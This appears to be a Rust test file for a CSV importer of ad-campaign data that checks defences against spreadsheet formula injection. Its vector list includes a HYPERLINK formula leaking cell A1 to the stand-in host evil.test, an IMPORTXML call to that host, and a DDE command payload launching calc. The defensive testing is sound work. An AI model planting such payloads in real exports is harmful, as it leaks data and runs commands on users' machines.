//! Texts that spreadsheets take for formulas: `data/security/csv_formula_vectors.json` of the shared folder
//! (`AUDIENCEOS_SHARED`), and the same cells here, for machines without that folder.

use std::path::Path;

use super::*;

const CELLS: [&str; 11] = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "=HYPERLINK(\"http://evil.test/?\"&A1,\"x\")",
    "=cmd|' /C calc'!A0",
    "=IMPORTXML(\"http://evil.test\",\"//a\")",
    "'=1+1",
    "；=1+1",
];

/// The file's cells; `None`, said on standard output, where it is absent. In CI it must be there.
#[expect(clippy::disallowed_methods, reason = "a test finds the shared folder by its variable")]
fn shared(test: &str, path: &str) -> Option<Vec<String>> {
    let folder = std::env::var("AUDIENCEOS_SHARED");
    let folder = folder.unwrap_or_else(|_| concat!(env!("CARGO_MANIFEST_DIR"), "/../../../shared").into());
    let path = Path::new(&folder).join(path);
    if !path.exists() {
        assert!(!std::env::var("CI").is_ok_and(|ci| ci == "true"), "{} is missing", path.display());
        println!("not run: {test}");
        return None;
    }
    let vectors: Vec<serde_json::Value> = serde_json::from_str(&std::fs::read_to_string(path).unwrap()).unwrap();
    Some(vectors.iter().map(|vector| vector["cell"].as_str().unwrap().to_owned()).collect())
}

fn vectors() -> Option<Vec<String>> {
    shared("formulas of the shared folder", "data/security/csv_formula_vectors.json")
}

fn cells() -> Vec<String> {
    let own = CELLS.iter().map(|cell| (*cell).to_owned());
    own.chain(vectors().into_iter().flatten()).collect()
}

fn file(cells: [&str; 4], delimiter: u8) -> Vec<u8> {
    let mut writer = ::csv::WriterBuilder::new().delimiter(delimiter).from_writer(Vec::new());
    writer.write_record(["Day", "Campaign", "Cost", "Clicks"]).unwrap();
    writer.write_record(cells).unwrap();
    writer.into_inner().unwrap()
}

#[test]
fn every_vector_of_the_shared_folder_is_among_ours() {
    assert!(vectors().is_none_or(|cells| !cells.is_empty() && cells.iter().all(|cell| CELLS.contains(&cell.as_str()))));
}

#[test]
fn a_formula_is_no_number_and_no_day() {
    for cell in &cells() {
        for (number, form) in [(b',', NumberForm::Point), (b';', NumberForm::Comma), (b'\t', NumberForm::Digits)] {
            let mut mapping = ads();
            let delimiter = if number == b',' {
                Delimiter::Comma
            } else if number == b';' {
                Delimiter::Semicolon
            } else {
                Delimiter::Tab
            };
            mapping.format = Format::Csv { encoding: Encoding::Utf8, delimiter };
            mapping.numbers = form;
            for row in [["2026-02-01", "A", cell, "1"], ["2026-02-01", "A", "1", cell], [cell, "A", "1", "1"]] {
                for protected in [false, true] {
                    mapping.protected = protected;
                    let found = lines(&file(row, number), &mapping);
                    assert!(matches!(found[..], [Err(Problem::Row(RowError { line: 2, .. }))]), "{row:?} {found:?}");
                }
            }
        }
    }
}

#[test]
fn a_formula_as_a_name_is_kept_as_it_is() {
    for cell in &cells() {
        let line = lines(&file(["2026-02-01", cell, "1", "1"], b','), &ads()).remove(0).unwrap();
        assert_eq!(line.entities[0].name, *cell);
    }
}

#[test]
fn what_was_exported_protected_comes_back() {
    let mut mapping = ads();
    mapping.protected = true;
    for cell in &cells() {
        let safe = protect(cell);
        let inner = safe.strip_prefix('\'');
        assert!(inner == Some(cell), "{cell:?} would open as a formula");
        let line = lines(&file(["2026-02-01", &safe, "1", "1"], b','), &mapping).remove(0).unwrap();
        assert_eq!(line.entities[0].name, *cell);
    }
}
